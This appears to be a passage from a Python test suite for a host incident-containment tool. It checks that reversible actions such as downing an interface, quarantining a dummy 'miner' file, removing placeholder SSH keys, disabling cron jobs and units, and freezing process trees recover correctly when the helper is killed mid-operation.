    # Lives go on; and how often something was used is no part of what it is.
    return [re.sub(r" expires \d+sec|(valid|preferred)_lft \d+sec", "", line) for line in shown]


def make_network(test):
    sh("ip", "link", "set", "lo", "up")
    sh("ip", "link", "add", "v0", "type", "veth", "peer", "name", "v1")
    test.addCleanup(sh, "ip", "link", "del", "v0", check=False)
    sh("sysctl", "-q", "-w", "net.ipv6.conf.v0.accept_ra=0", check=False)
    for line in """link set v1 up
link set v0 up
addr add 10.9.0.1/24 brd + dev v0 label v0:x
addr add 10.9.0.2/24 dev v0
addr add 10.9.1.1/30 dev v0 valid_lft 3600 preferred_lft 1800
-6 addr add 2001:db8::1/64 dev v0 nodad
-6 addr add 2001:db8:1::1/64 dev v0 nodad noprefixroute
-6 addr add 2001:db8:2::1/64 dev v0 nodad valid_lft 3600 preferred_lft 1800
route add default via 10.9.0.254
route add 192.0.2.0/24 via 10.9.0.253 metric 50 src 10.9.0.2 mtu 1400
route add 198.51.100.0/24 dev v0 scope link table 77
-6 route add default via 2001:db8::fe
-6 route add 2001:db8:9::/48 via 2001:db8::fd metric 77 src 2001:db8::1
-6 route add 2001:db8:8::/48 nexthop via 2001:db8::a nexthop via 2001:db8::b
neigh add 10.9.0.254 lladdr 02:00:00:00:00:fe nud permanent dev v0
-6 neigh add 2001:db8::fe lladdr 02:00:00:00:00:fe nud permanent dev v0
neigh add proxy 10.9.0.99 dev v0""".splitlines():
        sh("ip", *line.split())
    for _ in range(100):  # until its own address was found free
        text = sh("ip", "-6", "addr")
        if text.count("fe80") == 2 and "tentative" not in text:
            break
        time.sleep(0.1)


def settled(wanted):
    """The network once it is as wanted, or what it is after a while."""
    for _ in range(60):
        now = network()
        if now == wanted:
            break
        time.sleep(0.1)
    return now


class Down(HostTest):
    def setUp(self):
        super().setUp()
        make_network(self)

    def test_an_interface_goes_down_and_comes_back_with_all_that_it_had(self):
        before = network()
        plan = Plan("down", ("interface", "v0"))
        with Helper(self.folder) as helper:
            helper.begin(plan)
            between = network()
            self.assertFalse([line for line in between if "2001:db8" in line])
            self.assertFalse([line for line in between if "10.9.0.254" in line])
            helper.order(f"check {plan.id}")
            helper.order(f"undo {plan.id}")
            self.assertEqual(settled(before), before)
            helper.order(f"undo {plan.id}")
        self.assertEqual(network(), before)

    def test_lives_go_on_while_it_is_down(self):
        plan = Plan("down", ("interface", "v0"))
        with Helper(self.folder) as helper:
            helper.begin(plan)
            time.sleep(2.1)
            helper.order(f"undo {plan.id}")
        left = int(re.search(r"2001:db8:2::1/64.*?valid_lft (\d+)sec", sh("ip", "-6", "addr"), re.S)[1])
        self.assertTrue(3500 < left <= 3598, left)

    def test_what_was_removed_before_does_not_come_back(self):
        sh("ip", "-6", "addr", "flush", "dev", "v0", "scope", "link")
        sh("ip", "route", "del", "10.9.1.0/30", "dev", "v0")
        before = network()
        plan = Plan("down", ("interface", "v0"))
        with Helper(self.folder) as helper:
            helper.begin(plan)
            helper.order(f"undo {plan.id}")
        self.assertEqual(settled(before), before)

    def test_loopback_and_what_is_not_there_are_refused(self):
        self.refused(Plan("down", ("interface", "lo")), "talks to itself")
        self.refused(Plan("down", ("interface", "v9")), "no network interface", "ERR_NOTFOUND")

    def test_the_way_to_the_person_is_refused(self):
        sh("ip", "netns", "add", "calm-test-far", check=False)
        listener = subprocess.Popen(["/usr/bin/python3", "-c", "import socket\ns=socket.create_server(('10.9.0.1',2222))\n"
                                     "print('up',flush=True)\nc,_=s.accept()\nc.recv(1)\n"], stdout=subprocess.PIPE)
        listener.stdout.readline()
        far = subprocess.Popen(["unshare", "--net", "sleep", "60"])
        time.sleep(0.2)
        sh("ip", "link", "set", "v1", "netns", str(far.pid))
        sh("nsenter", "-t", str(far.pid), "-n", "ip", "link", "set", "v1", "up")
        sh("nsenter", "-t", str(far.pid), "-n", "ip", "addr", "add", "10.9.0.7/24", "dev", "v1")
        # The helper's parent holds the connection, as sshd would.
        script = ("import socket,subprocess,sys\ns=socket.create_server(('10.9.0.1',22))\nprint('up',flush=True)\nc,_=s.accept()\n"
                  "sys.exit(subprocess.call(sys.argv[1:]))")
        server = subprocess.Popen(["/usr/bin/python3", "-c", script, contain_host.CONTAIN, "serve", "--folder", self.folder],
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=ENV)
        server.stdout.readline()
        client = subprocess.Popen(["nsenter", "-t", str(far.pid), "-n", "/usr/bin/python3", "-c",
                                   "import socket,time\ns=socket.create_connection(('10.9.0.1',22))\ntime.sleep(60)\n"])
        time.sleep(0.7)
        plan = Plan("down", ("interface", "v0"))
        out, _ = server.communicate(f"prepare {len(plan.text)} {plan.digest}\n".encode() + plan.text)
        for process in (client, far, listener):
            process.kill()
            process.wait()
        listener.stdout.close()
        self.assertRegex(out.decode(), "failed ERR_GATE v0 is the way to 10.9.0.7, from where you are connected")


def syscalls(log):
    """The calls of a trace in their order, each with how many of its name came before it; from the order to go on."""
    seen, calls, is_begun = {}, [], False
    for line in pathlib.Path(log).read_text(errors="replace").splitlines():
        name = re.match(r"(?:\d+ +)?(\w+)\(", line)
        if not name:
            continue
        seen[name[1]] = seen.get(name[1], 0) + 1
        is_begun |= "read(0, \"go " in line
        if is_begun:
            calls.append((name[1], seen[name[1]]))
    return calls


class Killed(FakeSystemd):
    """At a random call of the kernel, while it does something, confirms it or undoes it: settled, all is as before, or it is confirmed and in
    effect."""

    RUNS = 12  # of each

    def files(self):
        write("/srv/drop/miner", b"\0" * 5000, 0o4755, 2002)
        os.setxattr("/srv/drop/miner", "user.x", b"y")
        sh("chattr", "+i", "/srv/drop/miner")
        for name in ("authorized_keys", "authorized_keys2"):
            write("/home/mallory/.ssh/" + name, "ssh-rsa AAAA\n", 0o600, 2002)
        write("/etc/cron.d/evil", EVIL + "\n")
        write(self.UNIT, "[Service]\n")
        pathlib.Path("/run/fake/active-evil.service").write_bytes(b"")
        for path in ("/srv/drop", "/home/mallory/.ssh", "/etc/systemd/system", "/etc", "/etc/cron.d"):
            os.utime(path, ns=(LONG_AGO, LONG_AGO + 4))

    @staticmethod
    def seen(plan):
        """Without what the hook for a restart may leave, which is no part of an action: half a file, and the time of its folder."""
        hook = ["/etc/systemd/system/sysinit.target.wants"]
        hook += [] if b"\nunit " in plan.text else ["/etc/systemd/system|"]
        hook += [] if b"/etc/cron.d" in plan.text else ["/etc/cron.d|"]
        left = re.compile(r"/\.calm-[0-9a-f]{16}\.part")
        return [line for line in listing(*ROOTS) if not line.startswith(tuple(hook)) and not left.search(line)] + sorted(
            os.listdir("/run/fake"))

    def run_to(self, plan, last, before=()):
        """Prepares it, goes, and confirms or undoes it; whoever kills the helper ends this early."""
        helper = Helper(self.folder, before)
        try:
            helper.prepare(plan)
            helper.order(f"go {plan.id} 0")
            helper.order(f"{last} {plan.id}")
        except (EOFError, BrokenPipeError):
            pass
        try:
            helper.close()
        except BrokenPipeError:
            helper.process.wait()
            helper.process.stdout.close()

    def check_killed(self, make, seen, seed):
        if not shutil.which("strace"):
            self.skipTest("strace, which kills at a certain call, is not there")
        dice, traces, ends = random.Random(seed), {}, []
        for last in ("undo", "confirm"):
            plan = make()
            before = seen(plan)
            self.run_to(plan, last, ["strace", "-o", "/run/trace"])
            traces[last] = syscalls("/run/trace")
            with Helper(self.folder) as helper:
                helper.order(f"undo {plan.id}")
            self.assertEqual(seen(plan), before)
        for run in range(self.RUNS):
            shutil.rmtree(self.folder, ignore_errors=True)
            plan, last = make(), ("undo", "confirm")[run % 2]
            before = seen(plan)
            name, count = dice.choice(traces[last])
            where = (last, name, count)
            self.run_to(plan, last, ["strace", "-o", "/dev/null", "-e", f"inject={name}:signal=KILL:when={count}"])
            # Before it was armed and once it is undone, it is the hook that was being made or taken away.
            is_hook = states(self.folder).get(plan.id) not in ("armed", "undoing", "confirmed") and seen == self.seen
            time_is_over(self.folder)
            self.assertEqual(boot(self.folder), (0, ""), where)
            ends.append(states(self.folder).get(plan.id))
            if ends[-1] == "confirmed":
                with Helper(self.folder) as helper:
                    helper.order(f"check {plan.id}")
                    helper.order(f"undo {plan.id}")
            if is_hook:
                hook = ("/etc/systemd/system|", "/etc/cron.d|")
                self.assertEqual([line for line in seen(plan) if not line.startswith(hook)], [line for line in before if not line.startswith(hook)])
            else:
                self.assertEqual(seen(plan), before, where)
        self.assertIn("undone", ends)

    def test_a_file(self):
        self.files()
        self.check_killed(lambda: Plan("quarantine", ("file", "/srv/drop/miner")), self.seen, 1)

    def test_keys(self):
        self.files()
        self.check_killed(lambda: Plan("keys", ("user", "mallory")), self.seen, 2)

    def test_an_account(self):
        self.files()
        self.check_killed(lambda: Plan("lock", ("user", "mallory")), self.seen, 3)

    def test_a_line_of_a_job(self):
        self.files()
        self.check_killed(lambda: Plan("job", ("file", "/etc/crontab"), ("line", EVIL)), self.seen, 4)

    def test_a_file_of_a_job(self):
        self.files()
        self.check_killed(lambda: Plan("job", ("file", "/etc/cron.d/evil")), self.seen, 5)

    def test_a_unit(self):
        self.files()
        self.check_killed(lambda: Plan("unit", ("unit", "evil.service")), self.seen, 6)

    def test_an_interface(self):
        make_network(self)
        before = network()
        self.check_killed(lambda: Plan("down", ("interface", "v0")), lambda plan: settled(before), 7)

    def check_tree(self, group, seed):
        tree = Tree(group)
        self.addCleanup(tree.end)

        def seen(plan):
            kept = [name for name in os.listdir(group) if name.startswith("calm")] if group else []
            stopped = [pid for pid in tree.all() if state_of(pid) == "T"]
            place = pathlib.Path(f"/proc/{tree.pid}/cgroup").read_text().splitlines()
            return tree.moves(), kept, stopped, [line for line in place if line.startswith("0:")]
        self.assertEqual(seen(None)[:3], (True, [], []))
        self.check_killed(lambda: Plan("freeze", ("pid", tree.pid), ("start", process_start(tree.pid))), seen, seed)

    def test_a_tree_of_processes(self):
        self.check_tree(make_group(self), 8)

    def test_a_tree_of_processes_by_signals(self):
        sh("mount", "-t", "tmpfs", "none", "/sys/fs/cgroup")
        self.addCleanup(sh, "umount", "/sys/fs/cgroup")
        self.check_tree(None, 9)

    def test_what_is_being_ended_is_ended_once_settled(self):
        for seed in range(self.RUNS):
            group = make_group(self)
            tree = Tree(group)
            self.addCleanup(tree.end)
            plan = Plan("end", ("pid", tree.pid), ("start", process_start(tree.pid)), accept=True)
            helper = Helper(self.folder)
            helper.prepare(plan)
            helper.send(f"go {plan.id} 0")
            time.sleep(random.Random(seed).uniform(0, 0.06))
            helper.process.kill()
            helper.process.wait()
            helper.process.stdin.close()
            helper.process.stdout.close()
            self.assertEqual(boot(self.folder), (0, ""))
            state = states(self.folder).get(plan.id)
            self.assertIn(state, (None, "confirmed"))  # killed before it began, what was prepared is nobody's and is cleared away
            self.assertEqual(tree.all() == [], state == "confirmed")
            if state == "confirmed":
                self.assertEqual([name for name in os.listdir(group) if name.startswith("calm")], [])
            shutil.rmtree(self.folder, ignore_errors=True)  # a watchdog may be clearing away there too


if __name__ == "__main__":
    harness.main()
